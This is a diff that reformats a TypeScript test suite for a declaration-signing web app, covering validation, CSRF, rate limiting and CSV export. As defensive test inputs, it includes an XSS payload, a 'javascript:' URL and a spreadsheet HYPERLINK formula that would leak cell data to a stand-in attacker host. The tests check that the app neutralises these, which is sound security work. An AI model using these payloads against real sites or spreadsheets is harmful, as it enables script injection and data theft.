@@ -54,7 +54,13 @@ function expectNothingStored(t: Pick<Setup, "db">, rows = 0, count = rows) {
 function revise(t: Pick<Setup, "db">, slug = "test-declaration"): number {
   return t.db.transaction((tx) => {
     const d = tx.select().from(declarations).where(eq(declarations.slug, slug)).get()!;
-    return appendRevision(tx, d, { title: d.title, summary: d.summary, body: "## Changed\n\nA new text.\n", changeSummary: "Rewrote", origin: "site" });
+    return appendRevision(tx, d, {
+      title: d.title,
+      summary: d.summary,
+      body: "## Changed\n\nA new text.\n",
+      changeSummary: "Rewrote",
+      origin: "site",
+    });
   });
 }
 
@@ -81,7 +87,9 @@ describe("the signing form", () => {
       const res = await t.app.request(path);
       expect(res.status).toBe(200);
       const cookie = res.headers.getSetCookie().find((c) => c.startsWith("__Host-csrf="));
-      expect(cookie).toMatch(/^__Host-csrf=[A-Za-z0-9_-]{22}; Max-Age=2592000; Path=\/; HttpOnly; Secure; SameSite=Lax$/);
+      expect(cookie).toMatch(
+        /^__Host-csrf=[A-Za-z0-9_-]{22}; Max-Age=2592000; Path=\/; HttpOnly; Secure; SameSite=Lax$/,
+      );
       const html = await res.text();
       const form = tags(html, "form").find((f) => f.action === "/d/test-declaration/sign");
       expect(form).toMatchObject({ method: "post" });
@@ -189,7 +197,14 @@ describe("signing: the happy path", () => {
 
   it("counts “count me only” signatures without listing them anywhere", async () => {
     const t = await setup();
-    tokenFrom(await signForm(t.app, { name: "Quiet Person", place: "Hidden Town", comment: "Secret comment", visibility: "count" }));
+    tokenFrom(
+      await signForm(t.app, {
+        name: "Quiet Person",
+        place: "Hidden Town",
+        comment: "Secret comment",
+        visibility: "count",
+      }),
+    );
     tokenFrom(await signForm(t.app, { name: "Loud Person" }));
     expect(signatureRows(t.db).map((r) => r.public)).toEqual([false, true]);
     expect(storedCount(t.db)).toBe(2);
@@ -208,12 +223,16 @@ describe("signing: the happy path", () => {
     }
     expect(pageText(pages[0]!)).toContain("2 people have signed.");
     expect(pageText(pages[1]!)).toContain("2 signatures");
-    expect((await (await t.app.request("/api/declarations/test-declaration/signatures")).json()).signatureCount).toBe(2);
+    expect((await (await t.app.request("/api/declarations/test-declaration/signatures")).json()).signatureCount).toBe(
+      2,
+    );
   });
 
   it("strips invisible and direction characters instead of refusing them", async () => {
     const t = await setup();
-    tokenFrom(await signForm(t.app, { name: "\u202EAda\u200B Love\u2066lace\u2069\uFEFF", place: "Lon\u200Bdon\u200E" }));
+    tokenFrom(
+      await signForm(t.app, { name: "\u202EAda\u200B Love\u2066lace\u2069\uFEFF", place: "Lon\u200Bdon\u200E" }),
+    );
     expect(signatureRows(t.db)[0]).toMatchObject({ name: "Ada Lovelace", place: "London" });
   });
 
@@ -295,49 +314,125 @@ describe("signing: bad input", () => {
     ["a missing name", { name: undefined }, "name", "Please enter your name."],
     ["an empty name", { name: "" }, "name", "Please enter your name."],
     ["a whitespace-only name", { name: "  \t  " }, "name", "Please enter your name."],
-    ["a 101-character name", { name: "n".repeat(101) }, "name", "Your name must be at most 100 characters (it has 101)."],
+    [
+      "a 101-character name",
+      { name: "n".repeat(101) },
+      "name",
+      "Your name must be at most 100 characters (it has 101).",
+    ],
     ["a 10 KB name", { name: "n".repeat(10 * 1024) }, "name", "Your name must be at most 100 characters."],
-    ["a name with a URL", { name: "Cheap pills https://spam.example" }, "name", "Your name must not contain a web address; use the website field."],
-    ["a name with www.", { name: "www.spam.example" }, "name", "Your name must not contain a web address; use the website field."],
+    [
+      "a name with a URL",
+      { name: "Cheap pills https://spam.example" },
+      "name",
+      "Your name must not contain a web address; use the website field.",
+    ],
+    [
+      "a name with www.",
+      { name: "www.spam.example" },
+      "name",
+      "Your name must not contain a web address; use the website field.",
+    ],
     ["a name of only punctuation", { name: "?!?!" }, "name", "Your name must contain at least one letter or digit."],
     ["a name of only dashes", { name: "- - -" }, "name", "Your name must contain at least one letter or digit."],
     ["a NUL byte in the name", { name: "Ada\u0000Lovelace" }, "name", "Your name contains a NUL character."],
     ["a NUL byte in the comment", { comment: "Hi\u0000" }, "comment", "Comment contains a NUL character."],
-    ["a 101-character place", { place: "p".repeat(101) }, "place", "Place or affiliation must be at most 100 characters (it has 101)."],
-    ["a javascript: website", { website: "javascript:alert(1)" }, "website", "Website must be a web address starting with http:// or https://."],
-    ["an ftp:// website", { website: "ftp://example.org/" }, "website", "Website must be a web address starting with http:// or https://."],
-    ["a website with a password", { website: "http://user:pw@x.org" }, "website", "Website must not contain a user name or password."],
-    ["a 501-character comment", { comment: "c".repeat(501) }, "comment", "Comment must be at most 500 characters (it has 501)."],
-    ["a bad email address", { email: "ada(at)example.org" }, "email", "Email address does not look like an address (name@example.org)."],
-    ["a missing visibility", { visibility: undefined }, "public", "Please choose whether to show your name or only be counted."],
-    ["a wrong visibility", { visibility: "everyone" }, "public", "Choose “public” to show your name or “count” to be counted only."],
+    [
+      "a 101-character place",
+      { place: "p".repeat(101) },
+      "place",
+      "Place or affiliation must be at most 100 characters (it has 101).",
+    ],
+    [
+      "a javascript: website",
+      { website: "javascript:alert(1)" },
+      "website",
+      "Website must be a web address starting with http:// or https://.",
+    ],
+    [
+      "an ftp:// website",
+      { website: "ftp://example.org/" },
+      "website",
+      "Website must be a web address starting with http:// or https://.",
+    ],
+    [
+      "a website with a password",
+      { website: "http://user:pw@x.org" },
+      "website",
+      "Website must not contain a user name or password.",
+    ],
+    [
+      "a 501-character comment",
+      { comment: "c".repeat(501) },
+      "comment",
+      "Comment must be at most 500 characters (it has 501).",
+    ],
+    [
+      "a bad email address",
+      { email: "ada(at)example.org" },
+      "email",
+      "Email address does not look like an address (name@example.org).",
+    ],
+    [
+      "a missing visibility",
+      { visibility: undefined },
+      "public",
+      "Please choose whether to show your name or only be counted.",
+    ],
+    [
+      "a wrong visibility",
+      { visibility: "everyone" },
+      "public",
+      "Choose “public” to show your name or “count” to be counted only.",
+    ],
   ];
 
-  it.each(cases)("refuses %s with 400, a message naming the field, the input kept and nothing stored", async (_, overrides, field, message) => {
-    const t = await setup();
-    const sent = { name: "Ada Lovelace", place: "London", website: "https://ada.example.org", email: "ada@example.org", comment: "Line one\nLine <two> & \"three\"", visibility: "count", ...overrides };
-    const res = await signForm(t.app, sent);
-    expect(res.status).toBe(400);
-    expect(res.headers.get("content-type")).toMatch(/^text\/html/);
-    const html = await res.text();
-    expect(fieldError(html, field)).toBe(message);
-    const label = { name: "Your name", place: "Place or affiliation", website: "Website", email: "Email address", comment: "Comment", public: "Your name on the list" }[field]!;
-    expect(formError(html)).toContain(`${label}: ${message}`);
-    if (field !== "public") {
-      expect(tags(html, field === "comment" ? "textarea" : "input").find((a) => a.name === field)).toMatchObject({
-        "aria-invalid": "true",
-        "aria-describedby": `${field}-error`,
-      });
-    }
-    // Everything typed comes back exactly as typed.
-    for (const name of ["name", "place", "website", "email"]) expect(inputValue(html, name)).toBe(sent[name as keyof typeof sent] ?? "");
-    expect(textareaText(html, "comment")).toBe(sent.comment);
-    // A missing choice comes back as the form's default; an unknown one unchecked.
-    expect(checkedRadio(html, "visibility")).toBe(sent.visibility == null ? "public" : sent.visibility === "count" ? "count" : undefined);
-    // A fresh form token, ready to send again.
-    expect(inputValue(html, "csrf")).toMatch(/^[A-Za-z0-9_-]{43}$/);
-    expectNothingStored(t);
-  });
+  it.each(cases)(
+    "refuses %s with 400, a message naming the field, the input kept and nothing stored",
+    async (_, overrides, field, message) => {
+      const t = await setup();
+      const sent = {
+        name: "Ada Lovelace",
+        place: "London",
+        website: "https://ada.example.org",
+        email: "ada@example.org",
+        comment: 'Line one\nLine <two> & "three"',
+        visibility: "count",
+        ...overrides,
+      };
+      const res = await signForm(t.app, sent);
+      expect(res.status).toBe(400);
+      expect(res.headers.get("content-type")).toMatch(/^text\/html/);
+      const html = await res.text();
+      expect(fieldError(html, field)).toBe(message);
+      const label = {
+        name: "Your name",
+        place: "Place or affiliation",
+        website: "Website",
+        email: "Email address",
+        comment: "Comment",
+        public: "Your name on the list",
+      }[field]!;
+      expect(formError(html)).toContain(`${label}: ${message}`);
+      if (field !== "public") {
+        expect(tags(html, field === "comment" ? "textarea" : "input").find((a) => a.name === field)).toMatchObject({
+          "aria-invalid": "true",
+          "aria-describedby": `${field}-error`,
+        });
+      }
+      // Everything typed comes back exactly as typed.
+      for (const name of ["name", "place", "website", "email"])
+        expect(inputValue(html, name)).toBe(sent[name as keyof typeof sent] ?? "");
+      expect(textareaText(html, "comment")).toBe(sent.comment);
+      // A missing choice comes back as the form's default; an unknown one unchecked.
+      expect(checkedRadio(html, "visibility")).toBe(
+        sent.visibility == null ? "public" : sent.visibility === "count" ? "count" : undefined,
+      );
+      // A fresh form token, ready to send again.
+      expect(inputValue(html, "csrf")).toMatch(/^[A-Za-z0-9_-]{43}$/);
+      expectNothingStored(t);
+    },
+  );
 
   it("reports several bad fields at once", async () => {
     const t = await setup();
@@ -393,7 +488,9 @@ describe("signing: bad input", () => {
     const t = await setup({ SIGNATURE_CONFIRMATION: "email", SMTP_URL: "smtp://127.0.0.1:2525" });
     const res = await signForm(t.app, { email: "" });
     expect(res.status).toBe(400);
-    expect(fieldError(await res.text(), "email")).toBe("Please enter your email address: this site confirms each signature by mail.");
+    expect(fieldError(await res.text(), "email")).toBe(
+      "Please enter your email address: this site confirms each signature by mail.",
+    );
     expectNothingStored(t);
   });
 });
@@ -445,7 +542,11 @@ describe("signing: what the body must look like", () => {
     const pair = await csrfFrom(t.app);
     const data = new FormData();
     for (const [k, v] of Object.entries({ csrf: pair.csrf, ...signFields() })) data.append(k, v);
-    const res = await t.app.request("/d/test-declaration/sign", { method: "POST", headers: { Cookie: pair.cookie }, body: data });
+    const res = await t.app.request("/d/test-declaration/sign", {
+      method: "POST",
+      headers: { Cookie: pair.cookie },
+      body: data,
+    });
     expect(res.status).toBe(415);
     expectNothingStored(t);
   });
@@ -472,14 +573,22 @@ describe("signing: what the body must look like", () => {
     expectNothingStored(t);
   });
 
-  it.each(["%FF", "%C0%AF", "%ED%A0%80", "%E2%82", "%"])("refuses the percent-encoded invalid UTF-8 %s with 400", async (bad) => {
-    const t = await setup();
-    const pair = await csrfFrom(t.app);
-    const res = await postForm(t.app, "/d/test-declaration/sign", {}, { csrf: pair, body: `csrf=${pair.csrf}&visibility=public&name=Ada${bad}` });
-    expect(res.status).toBe(400);
-    expect(formError(await res.text())).toContain("not valid UTF-8");
-    expectNothingStored(t);
-  });
+  it.each(["%FF", "%C0%AF", "%ED%A0%80", "%E2%82", "%"])(
+    "refuses the percent-encoded invalid UTF-8 %s with 400",
+    async (bad) => {
+      const t = await setup();
+      const pair = await csrfFrom(t.app);
+      const res = await postForm(
+        t.app,
+        "/d/test-declaration/sign",
+        {},
+        { csrf: pair, body: `csrf=${pair.csrf}&visibility=public&name=Ada${bad}` },
+      );
+      expect(res.status).toBe(400);
+      expect(formError(await res.text())).toContain("not valid UTF-8");
+      expectNothingStored(t);
+    },
+  );
 });
 
 describe("signing: CSRF", () => {
@@ -501,7 +610,10 @@ describe("signing: CSRF", () => {
   it("refuses a post without the token", async () => {
     const t = await setup();
     const pair = await csrfFrom(t.app);
-    await expect403KeepingInput(t, await postForm(t.app, "/d/test-declaration/sign", signFields(typed), { csrf: { cookie: pair.cookie, csrf: "" } }));
+    await expect403KeepingInput(
+      t,
+      await postForm(t.app, "/d/test-declaration/sign", signFields(typed), { csrf: { cookie: pair.cookie, csrf: "" } }),
+    );
   });
 
   it("refuses a post with a wrong token", async () => {
@@ -509,13 +621,20 @@ describe("signing: CSRF", () => {
     const pair = await csrfFrom(t.app);
     const forged = pair.csrf.slice(0, -1) + (pair.csrf.endsWith("A") ? "B" : "A");
     await expect403KeepingInput(t, await signForm(t.app, typed, { csrf: { cookie: pair.cookie, csrf: forged } }));
-    await expect403KeepingInput(t, await signForm(t.app, typed, { csrf: { cookie: pair.cookie, csrf: pair.csrf + "x" } }));
+    await expect403KeepingInput(
+      t,
+      await signForm(t.app, typed, { csrf: { cookie: pair.cookie, csrf: pair.csrf + "x" } }),
+    );
   });
 
   it("refuses a post without the cookie, and the refreshed form then works", async () => {
     const t = await setup();
     const pair = await csrfFrom(t.app);
-    const res = await signForm(t.app, typed, { csrf: null, headers: {} , body: formBody({ csrf: pair.csrf, ...signFields(typed) }) });
+    const res = await signForm(t.app, typed, {
+      csrf: null,
+      headers: {},
+      body: formBody({ csrf: pair.csrf, ...signFields(typed) }),
+    });
     const newCookie = cookiesFrom(res).find((c) => c.startsWith("__Host-csrf="));
     expect(newCookie).toBeTruthy();
     const html = await expect403KeepingInput(t, res);
@@ -533,16 +652,21 @@ describe("signing: CSRF", () => {
   it("refuses a token under the wrong cookie name", async () => {
     const t = await setup();
     const pair = await csrfFrom(t.app);
-    await expect403KeepingInput(t, await signForm(t.app, typed, { csrf: { cookie: pair.cookie.replace("__Host-csrf", "csrf"), csrf: pair.csrf } }));
+    await expect403KeepingInput(
+      t,
+      await signForm(t.app, typed, { csrf: { cookie: pair.cookie.replace("__Host-csrf", "csrf"), csrf: pair.csrf } }),
+    );
   });
 
-  it.each(["https://evil.example", "http://undersign.test", "https://undersign.test.evil.example", "https://undersign.test:8443"])(
-    "refuses a post from the foreign Origin %s even with a valid token",
-    async (origin) => {
-      const t = await setup();
-      await expect403KeepingInput(t, await signForm(t.app, typed, { headers: { Origin: origin } }));
-    },
-  );
+  it.each([
+    "https://evil.example",
+    "http://undersign.test",
+    "https://undersign.test.evil.example",
+    "https://undersign.test:8443",
+  ])("refuses a post from the foreign Origin %s even with a valid token", async (origin) => {
+    const t = await setup();
+    await expect403KeepingInput(t, await signForm(t.app, typed, { headers: { Origin: origin } }));
+  });
 
   it("refuses a cross-site post that sends no Origin but Sec-Fetch-Site", async () => {
     const t = await setup();
@@ -551,7 +675,9 @@ describe("signing: CSRF", () => {
 
   it("accepts our own Origin and same-origin fetch metadata", async () => {
     const t = await setup();
-    tokenFrom(await signForm(t.app, typed, { headers: { Origin: "https://undersign.test", "Sec-Fetch-Site": "same-origin" } }));
+    tokenFrom(
+      await signForm(t.app, typed, { headers: { Origin: "https://undersign.test", "Sec-Fetch-Site": "same-origin" } }),
+    );
   });
 });
 
@@ -577,7 +703,9 @@ describe("signing: rate limits", () => {
     expect(retry).toBeGreaterThan(0);
     expect(retry).toBeLessThanOrEqual(60);
     const html = await res.text();
-    expect(formError(html)).toContain("Too many signatures from your connection just now. Please try again in 1 minute.");
+    expect(formError(html)).toContain(
+      "Too many signatures from your connection just now. Please try again in 1 minute.",
+    );
     expect(inputValue(html, "name")).toBe("Second Person");
     expect(inputValue(html, "place")).toBe("Paris");
     expect(textareaText(html, "comment")).toBe("Again");
@@ -629,7 +757,9 @@ describe("signing: rate limits", () => {
     const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m" });
     const proxy = viaPeer(t.app, "127.0.0.1");
     tokenFrom(await signForm(proxy, { name: "One" }, { headers: { "X-Forwarded-For": "203.0.113.1" } }));
-    expect((await signForm(proxy, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } })).status).toBe(429);
+    expect((await signForm(proxy, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } })).status).toBe(
+      429,
+    );
   });
 
   it("with TRUST_PROXY, tells clients apart by the X-Forwarded-For entry our proxy added", async () => {
@@ -638,9 +768,13 @@ describe("signing: rate limits", () => {
     tokenFrom(await signForm(proxy, { name: "One" }, { headers: { "X-Forwarded-For": "203.0.113.1" } }));
     tokenFrom(await signForm(proxy, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } }));
     tokenFrom(await signForm(proxy, { name: "Three" }, { headers: { "X-Forwarded-For": "2001:db8::1" } }));
-    expect((await signForm(proxy, { name: "Four" }, { headers: { "X-Forwarded-For": "203.0.113.1" } })).status).toBe(429);
+    expect((await signForm(proxy, { name: "Four" }, { headers: { "X-Forwarded-For": "203.0.113.1" } })).status).toBe(
+      429,
+    );
     // A client cannot escape by prepending addresses: our proxy's hop is the last one.
-    expect((await signForm(proxy, { name: "Five" }, { headers: { "X-Forwarded-For": "198.51.100.7, 203.0.113.2" } })).status).toBe(429);
+    expect(
+      (await signForm(proxy, { name: "Five" }, { headers: { "X-Forwarded-For": "198.51.100.7, 203.0.113.2" } })).status,
+    ).toBe(429);
     expect(storedCount(t.db)).toBe(3);
   });
 
@@ -649,8 +783,12 @@ describe("signing: rate limits", () => {
     // A client that reaches the server directly and claims another address each time is still one client.
     const direct = viaPeer(t.app, "192.0.2.50");
     tokenFrom(await signForm(direct, { name: "One" }, { headers: { "X-Forwarded-For": "203.0.113.1" } }));
-    expect((await signForm(direct, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } })).status).toBe(429);
-    expect((await signForm(direct, { name: "Three" }, { headers: { "X-Forwarded-For": "10.0.0.1" } })).status).toBe(429);
+    expect((await signForm(direct, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } })).status).toBe(
+      429,
+    );
+    expect((await signForm(direct, { name: "Three" }, { headers: { "X-Forwarded-For": "10.0.0.1" } })).status).toBe(
+      429,
+    );
     // Through the listed proxy, the address it adds counts.
     const proxy = viaPeer(t.app, "10.1.2.3");
     tokenFrom(await signForm(proxy, { name: "Four" }, { headers: { "X-Forwarded-For": "203.0.113.2" } }));
@@ -695,8 +833,8 @@ describe("signing: duplicates", () => {
     const t = await setup();
     const pair = await csrfFrom(t.app);
     const results = await Promise.all(
-      ["ada@example.org", "ADA@example.org", "ada+1@example.org", "ada+2@Example.org", "Ada@EXAMPLE.org"].map((email, i) =>
-        signForm(t.app, { name: `Racer ${i}`, email }, { csrf: pair }),
+      ["ada@example.org", "ADA@example.org", "ada+1@example.org", "ada+2@Example.org", "Ada@EXAMPLE.org"].map(
+        (email, i) => signForm(t.app, { name: `Racer ${i}`, email }, { csrf: pair }),
       ),
     );
     expect(results.map((r) => r.status).sort()).toEqual([200, 200, 200, 200, 303]);
@@ -727,7 +865,9 @@ describe("signing: duplicates", () => {
     expect(res.status).toBe(200);
     const text = pageText(await res.text());
     expect(text).toContain("You have already signed");
-    expect(text).toContain("“ADA lovelace” has just signed this Declaration from your connection. Each person is counted once.");
+    expect(text).toContain(
+      "“ADA lovelace” has just signed this Declaration from your connection. Each person is counted once.",
+    );
     expectNothingStored(t, 1);
     // Another name, or the same name on another Declaration, is fine.
     tokenFrom(await signForm(t.app, { name: "Charles Babbage" }));
@@ -742,7 +882,9 @@ describe("signing: duplicates", () => {
     vi.setSystemTime(new Date("2026-05-01T10:00:00Z"));
     tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }));
     vi.setSystemTime(new Date("2026-05-01T10:59:00Z"));
-    expect(pageText(await (await signForm(t.app, { name: "Ada Lovelace" })).text())).toContain("You have already signed");
+    expect(pageText(await (await signForm(t.app, { name: "Ada Lovelace" })).text())).toContain(
+      "You have already signed",
+    );
     vi.setSystemTime(new Date("2026-05-01T11:00:01Z"));
     tokenFrom(await signForm(t.app, { name: "Ada Lovelace" }));
     expect(storedCount(t.db)).toBe(2);
@@ -834,13 +976,16 @@ describe("the list of signatures", () => {
     expect(pageText(html)).toContain("1 signature");
   });
 
-  it.each(["abc", "0", "-1", "1.5", "1e3", "01", "99999999999999999", "%20"])("answers 404 for the cursor %s", async (cursor) => {
-    const t = await setup();
-    addSignature(t.db, t.declaration);
-    const res = await t.app.request(`/d/test-declaration/signatures?before=${cursor}`);
-    expect(res.status).toBe(404);
-    expect(await res.text()).toContain("This page of signatures does not exist.");
-  });
+  it.each(["abc", "0", "-1", "1.5", "1e3", "01", "99999999999999999", "%20"])(
+    "answers 404 for the cursor %s",
+    async (cursor) => {
+      const t = await setup();
+      addSignature(t.db, t.declaration);
+      const res = await t.app.request(`/d/test-declaration/signatures?before=${cursor}`);
+      expect(res.status).toBe(404);
+      expect(await res.text()).toContain("This page of signatures does not exist.");
+    },
+  );
 
   it("answers 404 for an unknown Declaration", async () => {
     const t = await setup();
@@ -854,7 +999,9 @@ describe("the list of signatures", () => {
     revise(t);
     tokenFrom(await signForm(t.app, { name: "Version Two Signer", revision: "2" }));
     const html = await (await t.app.request("/d/test-declaration/signatures")).text();
-    const items = [...html.matchAll(/<li>([\s\S]*?)<\/li>/g)].map((m) => pageText(m[1]!)).filter((s) => s.includes("Signer"));
+    const items = [...html.matchAll(/<li>([\s\S]*?)<\/li>/g)]
+      .map((m) => pageText(m[1]!))
+      .filter((s) => s.includes("Signer"));
     expect(items).toHaveLength(2);
     expect(items[0]).toMatch(/^Version Two Signer .* · version 2$/);
     expect(items[1]).toMatch(/^Version One Signer .* · version 1$/);
@@ -862,12 +1009,16 @@ describe("the list of signatures", () => {
 
   it("links websites with rel=nofollow ugc and escapes everything", async () => {
     const t = await setup();
-    tokenFrom(await signForm(t.app, { name: "<img src=x onerror=alert(1)>", website: "example.org", comment: "<b>bold</b>" }));
+    tokenFrom(
+      await signForm(t.app, { name: "<img src=x onerror=alert(1)>", website: "example.org", comment: "<b>bold</b>" }),
+    );
     const html = await (await t.app.request("/d/test-declaration/signatures")).text();
     expect(html).not.toContain("<img src=x");
     expect(html).not.toContain("<b>bold</b>");
     expect(listedNames(html)).toEqual(["<img src=x onerror=alert(1)>"]);
-    expect(tags(html, "a").find((a) => a.href === "https://example.org/")).toMatchObject({ rel: "nofollow ugc noopener noreferrer" });
+    expect(tags(html, "a").find((a) => a.href === "https://example.org/")).toMatchObject({
+      rel: "nofollow ugc noopener noreferrer",
+    });
   });
 });
 
@@ -892,7 +1043,13 @@ describe("the CSV export", () => {
 
   it("quotes commas, quotes and line breaks", async () => {
     const t = await setup();
-    tokenFrom(await signForm(t.app, { name: 'Smith, Jane "JJ"', place: "Paris, France", comment: 'First line\nSecond, "quoted" line' }));
+    tokenFrom(
+      await signForm(t.app, {
+        name: 'Smith, Jane "JJ"',
+        place: "Paris, France",
+        comment: 'First line\nSecond, "quoted" line',
+      }),
+    );
     const { rows, text } = await csv(t);
     expect(text).toContain('"Smith, Jane ""JJ""","Paris, France",,"First line\nSecond, ""quoted"" line",1,');
     const [row] = signatureRows(t.db);
@@ -904,14 +1061,16 @@ describe("the CSV export", () => {
 
   it("defuses cells a spreadsheet would run as formulas", async () => {
     const t = await setup();
-    tokenFrom(await signForm(t.app, { name: "+1", place: "=1+1", comment: '=HYPERLINK("https://evil.example/?"&A1,"Click")' }));
+    tokenFrom(
+      await signForm(t.app, { name: "+1", place: "=1+1", comment: '=HYPERLINK("https://evil.example/?"&A1,"Click")' }),
+    );
     tokenFrom(await signForm(t.app, { name: "-1", place: "@SUM(A1:A9)", comment: "-2+3" }));
     tokenFrom(await signForm(t.app, { name: "@x", place: "Normal place", comment: "+ also" }));
     const { rows } = await csv(t);
     expect(rows.slice(1).map((r) => r.slice(0, 4))).toEqual([
       ["'@x", "Normal place", "", "'+ also"],
       ["'-1", "'@SUM(A1:A9)", "", "'-2+3"],
-      ["'+1", "'=1+1", "", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"],
+      ["'+1", "'=1+1", "", '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
     ]);
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
